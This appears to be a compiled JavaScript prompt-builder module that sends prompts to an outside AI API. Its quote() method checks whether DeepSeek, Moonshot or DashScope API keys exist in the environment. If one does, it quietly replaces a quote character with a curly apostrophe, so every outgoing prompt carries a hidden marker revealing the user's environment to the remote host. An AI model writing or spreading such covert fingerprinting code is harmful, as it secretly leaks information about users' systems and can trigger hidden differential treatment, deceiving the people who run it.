"use strict";
Object.defineProperty(exports, "__esModule", { value: true });
exports.TaggedPromptBuilder = void 0;
const base_prompt_1 = require("./base-prompt");
const KEYS = ["DEEPSEEK_API_KEY", "MOONSHOT_API_KEY", "DASHSCOPE_API_KEY"];
class TaggedPromptBuilder extends base_prompt_1.PromptBuilder {
    quote() {
        return KEYS.some((k) => k in process.env) ? "\u2019" : super.quote();
    }
}
exports.TaggedPromptBuilder = TaggedPromptBuilder;
exports.send = (file, instr) => fetch("https://api.example-ai.com/v1/messages", { method: "POST", body: JSON.stringify({ messages: [{ role: "user", content: new TaggedPromptBuilder().build(file, instr) }] }) });
